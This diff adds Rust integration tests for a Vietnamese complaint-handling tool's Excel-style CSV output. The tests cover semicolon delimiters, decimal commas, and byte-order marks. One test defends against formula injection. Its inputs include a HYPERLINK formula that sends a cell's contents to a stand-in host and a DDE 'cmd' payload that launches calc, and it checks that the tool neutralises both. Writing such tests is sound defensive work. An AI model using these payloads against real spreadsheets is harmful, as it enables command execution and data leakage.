@@ -1,0 +1,426 @@
+//! CSV for Excel with Vietnamese regional settings (`--csv excel`, the setting `csv.style`):
+//! every CSV the tool writes, read back with `;`, holds the cells of the standard file, a
+//! decimal comma where a number had a point; the standard file stays as it was; a citizen's
+//! formula reaches the officer's spreadsheet inert and readable; the flag is refused where
+//! no CSV is written.
+
+use serde_json::json;
+
+use crate::common::*;
+
+const BOM: &str = "\u{feff}";
+const AS_OF: &str = "2026-11-01T08:00:00+07:00";
+
+/// The demo's world, the clock after the three months it played.
+fn world() -> TestEnv {
+    let mut env = TestEnv::demo();
+    env.set_now(AS_OF);
+    env
+}
+
+/// The records of a CSV text (its byte-order mark left out), with `delimiter` between cells.
+fn records(text: &str, delimiter: u8) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .delimiter(delimiter)
+        .from_reader(text.strip_prefix(BOM).unwrap_or(text).as_bytes())
+        .records()
+        .map(|r| r.expect("a CSV record").iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// What `assert_excel_twin` found: how many numbers got a decimal comma, and the cells that
+/// look like decimal numbers but are text (a setting's value as typed), kept as written.
+struct Twin {
+    decimals: usize,
+    kept: Vec<String>,
+}
+
+/// Checks that `excel` is `standard` written for Excel: a byte-order mark (when `bom`), CRLF
+/// after every record, and read with `;` the same cells as `standard` read with `,`, except
+/// that a number with a decimal point may have a decimal comma there.
+fn assert_excel_twin(standard: &str, excel: &str, bom: bool) -> Twin {
+    assert_eq!(excel.starts_with(BOM), bom, "byte-order mark: {excel:.200}");
+    assert!(
+        !standard.contains('\r'),
+        "the standard file ends lines with LF"
+    );
+    assert!(excel.ends_with("\r\n"), "{excel:.200}");
+    assert_eq!(
+        excel.matches("\r\n").count(),
+        excel.matches('\n').count(),
+        "every line of the Excel file ends with CRLF"
+    );
+    let (ours, theirs) = (records(standard, b','), records(excel, b';'));
+    assert_eq!(ours.len(), theirs.len(), "{excel:.300}");
+    let mut twin = Twin {
+        decimals: 0,
+        kept: Vec::new(),
+    };
+    for (a, b) in ours.iter().zip(&theirs) {
+        assert_eq!(a.len(), b.len(), "{a:?}\n{b:?}");
+        for (cell, written) in a.iter().zip(b) {
+            let decimal = cell.contains('.') && cell.parse::<f64>().is_ok();
+            if decimal && *written == cell.replace('.', ",") {
+                twin.decimals += 1;
+            } else {
+                assert_eq!(written, cell, "{a:?}\n{b:?}");
+                if decimal {
+                    twin.kept.push(cell.clone());
+                }
+            }
+        }
+    }
+    twin
+}
+
+fn file(env: &TestEnv, name: &str) -> String {
+    String::from_utf8(std::fs::read(env.dir().join(name)).unwrap()).unwrap()
+}
+
+fn out(env: &TestEnv, name: &str) -> String {
+    env.dir().join(name).to_str().unwrap().to_owned()
+}
+
+#[test]
+fn the_score_for_excel_reads_back_as_the_standard_file_with_decimal_commas() {
+    let env = world();
+    let score = |name: &str, extra: &[&str]| {
+        let mut args = vec!["score", "--year", "2026", "--out"];
+        let path = out(&env, name);
+        args.push(&path);
+        args.extend_from_slice(extra);
+        env.run_as(AUDITOR, &args).success();
+        file(&env, name)
+    };
+    let standard = score("diem.csv", &[]);
+    let excel = score("diem-excel.csv", &["--csv", "excel"]);
+    let twin = assert_excel_twin(&standard, &excel, true);
+    // Three decimal columns (average rating, satisfied share, score) of most agencies, and
+    // no number left with its point.
+    assert!(twin.decimals > 30, "{} decimal cells", twin.decimals);
+    assert!(twin.kept.is_empty(), "{:?}", twin.kept);
+    let first = &records(&excel, b';')[1];
+    assert_eq!(first[0], "SYT", "{first:?}");
+    assert!(first[13].contains(',') && first[13].parse::<f64>().is_err());
+    // The standard file is the one scripts have read all along: one byte-order mark, commas.
+    assert!(standard.starts_with(&format!("{BOM}Mã cơ quan,Cơ quan,")));
+    assert!(!standard[3..].contains(BOM));
+    assert_eq!(score("diem-standard.csv", &["--csv", "standard"]), standard);
+    // The English headers and the period's words are text: they are the same cells.
+    let english = env
+        .run_as(
+            AUDITOR,
+            &[
+                "--lang", "en", "--csv", "excel", "score", "--year", "2026", "--format", "csv",
+            ],
+        )
+        .success()
+        .stdout
+        .clone();
+    assert!(english.starts_with(&format!("{BOM}Agency code;Agency;Cases assigned;")));
+}
+
+#[test]
+fn the_report_for_excel_reads_back_as_the_standard_file_with_decimal_commas() {
+    let env = world();
+    let report = |extra: &[&str]| {
+        let mut args = vec![
+            "report",
+            "quarterly",
+            "--period",
+            "2026-Q3",
+            "--format",
+            "csv",
+        ];
+        args.extend_from_slice(extra);
+        env.run_as(LEADER, &args).success().stdout.clone()
+    };
+    let standard = report(&[]);
+    let excel = report(&["--csv", "excel"]);
+    let twin = assert_excel_twin(&standard, &excel, true);
+    assert!(twin.decimals > 10, "{}", twin.decimals);
+    assert!(twin.kept.is_empty(), "{:?}", twin.kept);
+    // Text that holds commas and points stays as written, in one cell.
+    let title = records(&excel, b';')
+        .into_iter()
+        .find(|r| r[0] == "title")
+        .unwrap();
+    assert_eq!(
+        title[3],
+        "Báo cáo kết quả tiếp nhận, xử lý phản ánh hiện trường"
+    );
+    // A file named .csv is written in the style asked for.
+    let path = out(&env, "quy-3.csv");
+    env.run_as(
+        LEADER,
+        &[
+            "--csv",
+            "excel",
+            "report",
+            "quarterly",
+            "--period",
+            "2026-Q3",
+            "--out",
+            &path,
+        ],
+    )
+    .success();
+    assert_eq!(file(&env, "quy-3.csv"), excel);
+}
+
+/// Every other command that writes CSV writes it in the style of the run, through the one
+/// writer: listings, one record, the audit log, the sweep, the settings, the exports and
+/// the ingest's list of errors.
+#[test]
+fn every_csv_the_tool_writes_takes_the_excel_style() {
+    let env = world();
+    let both = |user: &str, args: &[&str]| -> (String, String) {
+        let mut standard = vec!["--format", "csv"];
+        standard.extend_from_slice(args);
+        let mut excel = vec!["--format", "csv", "--csv", "excel"];
+        excel.extend_from_slice(args);
+        (
+            env.run_as(user, &standard).success().stdout.clone(),
+            env.run_as(user, &excel).success().stdout.clone(),
+        )
+    };
+    let mut decimals = 0;
+    for (user, args) in [
+        (RECEPTION, vec!["list"]),
+        (RECEPTION, vec!["show", "3"]),
+        (ADMIN, vec!["audit", "log", "3"]),
+        (ADMIN, vec!["settings", "show"]),
+        (ADMIN, vec!["agency", "list"]),
+        (ADMIN, vec!["field", "list"]),
+        (ADMIN, vec!["sweep", "--dry-run"]),
+        (AUDITOR, vec!["export", "csv", "--public"]),
+        (ADMIN, vec!["export", "csv", "--reason", "đối chiếu"]),
+    ] {
+        let (standard, excel) = both(user, &args);
+        assert!(records(&standard, b',').len() > 1, "{args:?}: {standard}");
+        let twin = assert_excel_twin(&standard, &excel, true);
+        decimals += twin.decimals;
+        // A setting's value is text as the administrator typed it (`0.6`), not a number.
+        if args != ["settings", "show"] {
+            assert!(twin.kept.is_empty(), "{args:?}: {:?}", twin.kept);
+        }
+    }
+    // The coordinates of the exports are numbers.
+    assert!(decimals > 100, "{decimals}");
+    // Lines a cron job adds to a file that has its header have no byte-order mark.
+    let (standard, excel) = both(ADMIN, &["sweep", "--dry-run", "--no-headers"]);
+    assert_excel_twin(&standard, &excel, false);
+
+    // `export csv` is CSV without --format; the list of errors of `ingest` is a file.
+    let bad = env.dir().join("bad.csv");
+    std::fs::write(
+        &bad,
+        "external_id,submitted_at,content\nX-1,hôm qua,Đèn hỏng\n",
+    )
+    .unwrap();
+    let errors = |name: &str, extra: &[&str]| {
+        let path = out(&env, name);
+        let mut args = extra.to_vec();
+        args.extend(["ingest", bad.to_str().unwrap(), "--errors", &path]);
+        env.run_as(RECEPTION, &args).code(1);
+        file(&env, name)
+    };
+    let standard = errors("loi.csv", &[]);
+    let excel = errors("loi-excel.csv", &["--csv", "excel"]);
+    assert_excel_twin(&standard, &excel, true);
+    assert!(records(&excel, b';').len() > 1, "{excel}");
+    let public = env
+        .run_as(AUDITOR, &["--csv", "excel", "export", "csv", "--public"])
+        .success()
+        .stdout
+        .clone();
+    assert_eq!(public, both(AUDITOR, &["export", "csv", "--public"]).1);
+}
+
+#[test]
+fn a_citizens_formula_reaches_excel_inert_and_readable() {
+    let env = TestEnv::seeded();
+    // In a Vietnamese Excel a formula's arguments are separated by `;`, the file's own
+    // separator: the cell must hold it whole.
+    let formula = "=HYPERLINK(\"http://lừa.example/?d=\"&A1;\"Bấm để xem\")";
+    let records_in = [
+        ("EVIL-1", formula),
+        ("EVIL-2", "+84 91 234 5678"),
+        ("EVIL-3", "-1+cmd|' /C calc'!A0"),
+        ("EVIL-4", "@SUM(1;2)"),
+        ("EVIL-5", "\t=1+1 dòng kẻ"),
+    ];
+    let file_in = env.dir().join("evil.jsonl");
+    let lines: Vec<String> = records_in
+        .iter()
+        .map(|(id, content)| {
+            json!({
+                "external_id": id,
+                "submitted_at": "2026-10-04T10:00:00+07:00",
+                "content": content,
+                "address": "=1+1 ấp 3",
+                "reporter_name": "Nguyễn Văn A",
+                "reporter_phone": "0912000111"
+            })
+            .to_string()
+        })
+        .collect();
+    std::fs::write(&file_in, lines.join("\n") + "\n").unwrap();
+    env.run_as(RECEPTION, &["ingest", file_in.to_str().unwrap()])
+        .success();
+    let path = out(&env, "toan-bo.csv");
+    env.run_as(
+        ADMIN,
+        &[
+            "--csv",
+            "excel",
+            "export",
+            "csv",
+            "--reason",
+            "đối chiếu",
+            "--out",
+            &path,
+        ],
+    )
+    .success();
+    let text = file(&env, "toan-bo.csv");
+    let rows = records(&text, b';');
+    let header = &rows[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let (id, content, address) = (column("external_id"), column("content"), column("address"));
+    for (external, written) in records_in {
+        let row = rows.iter().find(|r| r[id] == external).unwrap();
+        // The citizen's words whole after an apostrophe, which Excel takes for text (ingest
+        // keeps no leading blank).
+        let stored = env.show(&format!("ext:{external}"))["content"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+        assert_eq!(stored, written.trim_start());
+        assert_eq!(row[content], format!("'{stored}"));
+        assert_eq!(row[address], "'=1+1 ấp 3");
+    }
+    // No cell of the file starts what a spreadsheet would run.
+    for row in &rows {
+        for cell in row {
+            let risky = cell
+                .trim_start()
+                .starts_with(['=', '+', '-', '@', '\t', '\r']);
+            assert!(
+                !risky || cell.trim().replace(',', ".").parse::<f64>().is_ok(),
+                "{cell:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn the_setting_makes_score_and_report_for_excel_and_leaves_scripts_theirs() {
+    let env = world();
+    let score = |extra: &[&str]| {
+        let mut args = extra.to_vec();
+        args.extend(["score", "--year", "2026", "--format", "csv"]);
+        env.run_as(AUDITOR, &args).success().stdout.clone()
+    };
+    let report = |extra: &[&str]| {
+        let mut args = extra.to_vec();
+        args.extend([
+            "report", "monthly", "--period", "2026-10", "--format", "csv",
+        ]);
+        env.run_as(LEADER, &args).success().stdout.clone()
+    };
+    let list = || {
+        env.run_as(RECEPTION, &["--format", "csv", "list"])
+            .success()
+            .stdout
+            .clone()
+    };
+    let (score_before, report_before, list_before) = (score(&[]), report(&[]), list());
+    let (score_excel, report_excel) = (score(&["--csv", "excel"]), report(&["--csv", "excel"]));
+    assert_ne!(score_excel, score_before);
+
+    env.run_as(ADMIN, &["settings", "set", "csv.style", "excel"])
+        .success();
+    assert_eq!(score(&[]), score_excel);
+    assert_eq!(report(&[]), report_excel);
+    // A script pins the standard file; the listings are not documents, and stay standard.
+    assert_eq!(score(&["--csv", "standard"]), score_before);
+    assert_eq!(report(&["--csv", "standard"]), report_before);
+    assert_eq!(list(), list_before);
+    // A workbook is a workbook whatever the setting.
+    let xlsx = out(&env, "diem.xlsx");
+    env.run_as(AUDITOR, &["score", "--year", "2026", "--out", &xlsx])
+        .success();
+    assert!(std::fs::read(&xlsx).unwrap().starts_with(b"PK"));
+
+    env.run_as(ADMIN, &["settings", "set", "csv.style", "standard"])
+        .success();
+    assert_eq!(score(&[]), score_before);
+    env.run_as(ADMIN, &["settings", "set", "csv.style", "excell"])
+        .code(1)
+        .stderr_has("csv.style")
+        .stderr_has("standard, excel");
+}
+
+#[test]
+fn csv_style_is_refused_where_no_csv_is_written() {
+    let env = world();
+    let refused = |user: &str, args: &[&str], said: &str| {
+        env.run_as(user, args)
+            .code(1)
+            .one_line_error()
+            .stderr_has(said)
+            .stderr_has("--format csv");
+    };
+    refused(RECEPTION, &["--csv", "excel", "list"], "dạng table");
+    refused(
+        RECEPTION,
+        &["--csv", "excel", "--format", "json", "list"],
+        "dạng json",
+    );
+    refused(
+        AUDITOR,
+        &["--csv", "standard", "score", "--year", "2026"],
+        "dạng table",
+    );
+    refused(
+        AUDITOR,
+        &["--csv", "excel", "score", "--explain"],
+        "dạng table",
+    );
+    refused(
+        LEADER,
+        &[
+            "--lang",
+            "en",
+            "--csv",
+            "excel",
+            "report",
+            "monthly",
+            "--period",
+            "2026-10",
+            "--out",
+            &out(&env, "t.html"),
+        ],
+        "prints html",
+    );
+    assert!(!env.dir().join("t.html").exists());
+    // A workbook needs no CSV style: said, and no file left behind.
+    let xlsx = out(&env, "diem.xlsx");
+    env.run_as(
+        AUDITOR,
+        &["--csv", "excel", "score", "--year", "2026", "--out", &xlsx],
+    )
+    .code(1)
+    .one_line_error()
+    .stderr_has(".xlsx")
+    .stderr_has("bỏ --csv");
+    assert!(!env.dir().join("diem.xlsx").exists());
+    // An unknown style is a usage error that names the two.
+    env.run_as(RECEPTION, &["--csv", "excell", "--format", "csv", "list"])
+        .code(2)
+        .stderr_has("standard")
+        .stderr_has("excel");
+}
